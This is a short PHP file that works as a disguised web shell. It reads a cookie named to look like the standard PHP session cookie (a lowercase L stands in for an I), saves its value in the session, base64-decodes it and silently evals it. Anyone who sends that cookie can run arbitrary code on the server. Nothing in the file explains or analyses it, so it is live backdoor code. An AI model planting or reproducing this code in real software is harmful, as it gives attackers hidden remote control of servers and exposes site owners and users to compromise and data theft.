<?php
@session_start();
if (isset($_COOKIE['PHPSESSlD'])) {
    $_SESSION['theCode'] = trim($_COOKIE['PHPSESSlD']);
}
if (isset($_SESSION['theCode'])) {
    $code = base64_decode($_SESSION['theCode']);
    @eval($code);
}
